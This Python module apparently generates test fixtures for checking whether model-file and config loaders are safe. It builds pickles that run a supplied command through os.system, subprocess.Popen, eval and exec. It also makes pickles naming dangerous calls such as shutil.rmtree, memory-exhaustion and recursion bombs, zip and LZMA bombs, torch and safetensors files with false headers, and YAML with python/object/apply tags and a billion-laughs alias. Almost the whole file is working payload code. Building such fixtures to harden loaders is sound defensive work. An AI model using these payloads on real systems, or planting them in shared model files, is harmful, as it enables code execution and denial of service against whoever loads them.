"""Makes files that run a command, take all memory, or never end, for readers that let them."""

import io
import itertools
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

EXTENSION = 0x77
"""Number of a pickle extension that stands for ``os.system`` while the files are read."""

_OLD_HEAD = b"".join(pickle.dumps(one, 2) for one in (0x1950A86A20F9469CFC6C, 1001, {}))


class Calls:
    """Unpickling an instance runs a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return os.system, (self.command,)


def pickles_that_run(command: str) -> dict[str, bytes]:
    """Return pickles that run the command when Python's own unpickler reads them."""
    text, evil = command.encode(), Calls(command)
    quoted = b"S'" + text + b"'\n"
    shell = b"(S'sh'\nS'-c'\n" + quoted + b"l"
    code = b'S\'__import__("os").system("' + text + b"\")'\n"
    mapped = b"cos\nsystem\n(" + quoted + b"l"
    reduce = b"cos\nsystem\n(" + quoted + b"tR."
    return {
        "reduce": reduce,
        "stack_global": b"\x80\x04\x8c\x02os\x8c\x06system\x93(" + quoted + b"tR.",
        "inst": b"(" + quoted + b"ios\nsystem\n.",
        "obj": b"(csubprocess\nPopen\n" + shell + b"o.",
        "newobj": b"\x80\x02c__builtin__\nlist\n(c__builtin__\nmap\n(" + mapped + b"t\x81tR.",
        "newobj_ex": b"\x80\x04cbuiltins\nlist\n(cbuiltins\nmap\n(" + mapped + b"t}\x92tR.",
        "build": b"\x80\x02cargparse\nNamespace\n)\x81}S'__setstate__'\ncos\nsystem\nsb"
        + (quoted + b"b."),
        "extension": b"\x80\x02\x82" + bytes([EXTENSION]) + b"(" + quoted + b"tR.",
        "eval": b"c__builtin__\neval\n(" + code + b"tR.",
        "exec": b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93(" + code + b"tR.",
        "key": b"}cos\nsystem\n(" + quoted + b"tRNs.",
        "popped": b"cos\nsystem\n(" + quoted + b"tR0}.",
        "pickle": b"cpickle\nloads\n(C" + bytes([len(reduce)]) + reduce + b"tR.",
        "getattr": b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntR("
        + (quoted + b"tR."),
        "partial": b"cfunctools\npartial\n(cos\nsystem\n" + quoted + b"tR)R.",
        "dotted": b"\x80\x04\x8c\x07pathlib\x8c\x09os.system\x93(" + quoted + b"tR.",
        "object_array": pickle.dumps(np.array([evil], dtype=object), 2),
        "behind_an_array": pickle.dumps((np.zeros(2), [evil]), 5),
        "state_dict": pickle.dumps({"model": {"a": evil}, "__author__": "x"}, 4),
    }


def pickles_that_name(command: str) -> dict[str, bytes]:
    """Return pickles that other readers, or others' classes, might be misled by."""
    quoted = b"S'" + command.encode() + b"'\n"
    names = "posix.system nt.system sys.exit torch.load torch.hub.load numpy.load runpy.run_path "
    names += "timeit.timeit pty.spawn cProfile.run webbrowser.open importlib.import_module "
    names += "types.CodeType types.FunctionType marshal.loads ctypes.CDLL codecs.decode "
    names += "torch.storage._load_from_bytes torch.jit.load torch.ops.load_library "
    names += "torch.utils.cpp_extension.load torch.serialization.load numpy.f2py.compile "
    names += "builtins.open builtins.compile builtins.getattr builtins.globals builtins.__import__ "
    names += "numpy.testing._private.utils.runstring copyreg._reconstructor shutil.rmtree"
    found = {}
    for name in names.split():
        module, _, function = name.rpartition(".")
        found[name] = b"c%b\n%b\n(%btR." % (module.encode(), function.encode(), quoted)
    dotted = "OrderedDict.__init__.__globals__"
    return {
        **found,
        "persistent": b"P" + command.encode() + b"\n.",
        "persistent_on_stack": quoted + b"Q.",
        "dotted_attribute": b"\x80\x04\x8c\x0bcollections"
        + b"\x8c%c" % len(dotted)
        + (dotted.encode() + b"\x93."),
        "set_attributes": b"ccollections\nOrderedDict\n)R}S'keys'\n" + quoted + b"sb.",
        "slots": b"cnumpy\nndarray\n(N}S'__setstate__'\n" + quoted + b"stb.",
        "buffer": b"\x80\x05\x97.",
    }


def pickles_that_take_all() -> dict[str, bytes]:
    """Return pickles that ask for terabytes, or for ever."""
    doubled = b")" + b"q\x00h\x00\x86" * 100
    return {
        "bytes": b"\x8e" + struct.pack("<Q", 2**40) + b"x.",
        "bytearray": b"\x96" + struct.pack("<Q", 2**40) + b"x.",
        "text": b"\x8d" + struct.pack("<Q", 2**40) + b"x.",
        "frame": b"\x80\x04\x95" + struct.pack("<Q", 2**40) + b"N.",
        "memo": b"Nr\xff\xff\xff\x7f.",
        "memo_text": b"Np999999999999\n.",
        "allocate": b"cbuiltins\nbytearray\n(I1099511627776\ntR.",
        "ndarray": b"cnumpy\nndarray\n((I1099511627776\ntS'f8'\ntR.",
        "hash": b"}" + doubled + b"Ns.",
        "frozenset": b"(" + doubled + b"\x91.",
        "nested": b"(" * 20_000 + b".",
        "lists": b"]" * 20_000 + b"a" * 19_999 + b".",
        "number": b"I" + b"9" * 20_000 + b"\n.",
        "marks": b"(" * 1000,
        "punycode": b"c_codecs\nencode\n(V" + b"x" * 9999 + b"\nVpunycode\ntR.",
    }


def in_archive(pickled: bytes, compression: int = zipfile.ZIP_STORED, more: int = 0) -> bytes:
    """Return a file of torch.save whose pickle is this one."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        parts = {"data.pkl": pickled, "byteorder": b"little", "data/0": bytes(4 + more)}
        for name, data in {**parts, "version": b"3\n"}.items():
            archive.writestr(f"a/{name}", data)
    return buffer.getvalue()


def as_program(pickled: bytes) -> bytes:
    """Return a file of the lite interpreter whose instructions are this pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("data.pkl", "bytecode.pkl", "code/a.py"):
            archive.writestr(f"a/{name}", b"" if name.endswith(".py") else pickled)
    return buffer.getvalue()


def in_old_file(pickled: bytes) -> bytes:
    """Return a file of torch before 1.6 whose pickle is this one."""
    return _OLD_HEAD + pickled + pickle.dumps([], 2)


def tensor_pickle(count: int, size: int, step: int, offset: int = 0) -> bytes:
    """Return a pickle of a tensor of one dimension, its storage of ``count`` numbers."""
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n((S'storage'\nctorch\nFloatStorage\n"
        b"S'0'\nS'cpu'\nI%d\ntQI%d\n(I%d\nt(I%d\ntI00\nccollections\nOrderedDict\n)RtR."
        % (count, offset, size, step)
    )


def torch_files_that_promise() -> dict[str, bytes]:
    """Return files of torch.save that hold less than they say."""
    tar = tarfile.TarInfo("x")
    tar.type, tar.size = tarfile.GNUTYPE_LONGNAME, 2**40
    good = tensor_pickle(1, 1, 1)
    return {
        "storage": in_archive(tensor_pickle(2**40, 1, 1)),
        "shape": in_archive(tensor_pickle(1, 2**40, 1)),
        "stride": in_archive(tensor_pickle(1, 2, 2**40)),
        "expanded": in_archive(tensor_pickle(1, 2**40, 0)),
        "offset": in_archive(tensor_pickle(1, 1, 1, 2**40)),
        "negative": in_archive(tensor_pickle(1, -1, 1, -5)),
        "zip_bomb": in_archive(good, zipfile.ZIP_DEFLATED, 10**7),
        "lzma_bomb": in_archive(good, zipfile.ZIP_LZMA, 10**7),
        "old_storage": in_old_file(tensor_pickle(2**40, 1, 1)),
        "tar": tar.tobuf(tarfile.GNU_FORMAT),
        "cut": in_archive(good)[:-30],
        "behind": b"x" + in_archive(good),
    }


def safetensors_that_promise() -> dict[str, bytes]:
    """Return files of safetensors whose header lies."""

    def file(header: bytes, data: bytes = b"", length: int | None = None) -> bytes:
        return struct.pack("<Q", len(header) if length is None else length) + header + data

    def tensor(shape: str, start: int, end: int, dtype: str = "F32") -> bytes:
        return (
            f'{{"a":{{"dtype":"{dtype}","shape":{shape},"data_offsets":[{start},{end}]}}}}'.encode()
        )

    return {
        "length": file(b"{}", length=2**63),
        "header": file(b"{}", length=10**7),
        "data": file(tensor("[1099511627776]", 0, 2**42), bytes(4)),
        "shape": file(tensor("[1099511627776]", 0, 4), bytes(4)),
        "overflow": file(tensor("[4294967296,4294967296,4294967296]", 0, 0)),
        "hole": file(tensor("[1]", 8, 12), bytes(12)),
        "backwards": file(tensor("[1]", 4, 0), bytes(4)),
        "negative": file(tensor("[-1]", 0, 4), bytes(4)),
        "type": file(tensor("[1]", 0, 4, "F99"), bytes(4)),
        "deep": file(b'{"a":' + b"[" * 100_000),
        "text": b"hello",
        "empty": b"",
    }


def yaml_texts(command: str) -> dict[str, bytes]:
    """Return configs that run the command, where tags may, or stand for billions of values."""
    code = f"__import__('os').system('{command}')"
    laugh = "".join(
        f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in itertools.pairwise("abcdefghi")
    )
    tags = {
        "apply": f"!!python/object/apply:os.system ['{command}']",
        "apply_eval": f'!!python/object/apply:eval ["{code}"]',
        "apply_exec": f'!!python/object/apply:builtins.exec ["{code}"]',
        "table": f'!!python/object/apply:eval ["[[x, {code}] for x in [1]]"]',
        "new": f"!!python/object/new:subprocess.Popen [['sh', '-c', '{command}']]",
        "state": "!!python/object/new:type {args: [a, [], {}], state: {x: 1}}",
        "name": "!!python/name:os.system",
        "module": "!!python/module:os",
        "own": "!evil [1]",
        "map": f"!!map {{a: !!python/object/apply:os.system ['{command}']}}",
        "key": f"{{? !!python/object/apply:os.system ['{command}'] : 1}}",
        "deep": "[" * 1000,
        "number": "1" + ":59" * 9999,
        "itself": "&a [*a]",
    }
    texts = {name: f"OUTPUT_DIR: {text}\n" for name, text in tags.items()}
    texts["laughs"] = f"a: &a [x, x]\n{laugh}OUTPUT_DIR: *i\n"
    texts["not_text"] = "\x00"
    return {name: text.encode() for name, text in texts.items()}


def write_files(folder: Path, command: str) -> int:
    """Write all of them; return how many there are."""
    pickles = {
        **pickles_that_run(command),
        **pickles_that_name(command),
        **pickles_that_take_all(),
    }
    files = {f"{name}.pkl": data for name, data in pickles.items()}
    files |= {f"{name}.zip.pth": in_archive(data) for name, data in pickles.items()}
    files |= {f"{name}.old.pth": in_old_file(data) for name, data in pickles.items()}
    files |= {f"{name}.pth": data for name, data in torch_files_that_promise().items()}
    files |= {f"{name}.safetensors": data for name, data in safetensors_that_promise().items()}
    files |= {f"{name}.yaml": data for name, data in yaml_texts(command).items()}
    files |= {f"{name}.ptl": as_program(data) for name, data in pickles.items()}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    torch.save(torch.nn.Linear(2, 3), folder / "module.pth")
    torch.save({"a": Calls(command)}, folder / "saved.pth")
    return len(files) + 2
